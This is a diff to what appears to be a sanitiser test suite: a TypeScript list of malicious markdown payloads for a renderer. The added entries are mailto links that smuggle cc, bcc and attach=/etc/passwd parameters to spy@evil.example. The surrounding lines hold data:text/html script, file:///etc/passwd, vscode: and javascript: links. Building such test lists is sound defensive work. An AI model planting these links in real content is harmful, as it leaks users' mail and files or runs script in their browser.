@@ -56,6 +56,9 @@ export const PAYLOADS: Payload[] = [
   { name: 'vscode: link', md: `[vsclick](vscode://file/etc/passwd) [ext](vscode:extension/evil.ext)`, click: 'vsclick' },
   { name: 'data:text/html link', md: `[dataclick](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`, click: 'dataclick' },
   { name: 'file: and relative links', md: `[fileclick](file:///etc/passwd) [rel](./x) [proto](//evil.example/x) [q](?x=1)`, click: 'fileclick' },
+  { name: 'mailto with cc, bcc, to and attach', md: `[mailcc](mailto:a@ok.example?cc=spy@evil.example&subject=s&BCC=x@evil.example&attach=/etc/passwd&body=b&to=y@evil.example) <mailto:b@ok.example?cc=spy@evil.example>` },
+  { name: 'mailto hiding a ? in the address', md: `[mailq](mailto:a@ok.example%3Fcc=spy@evil.example&subject=s)` },
+  { name: 'raw html mailto with cc', md: `<a href="mailto:a@ok.example?cc=spy@evil.example">rawmail</a>` },
   { name: 'reference-style javascript: link', md: `[refclick][r]\n\n[r]: javascript:${PWN}`, click: 'refclick' },
   // Navigation and page-wide tags
   { name: 'meta refresh', md: `<meta http-equiv="refresh" content="0;url={C}/meta">` },
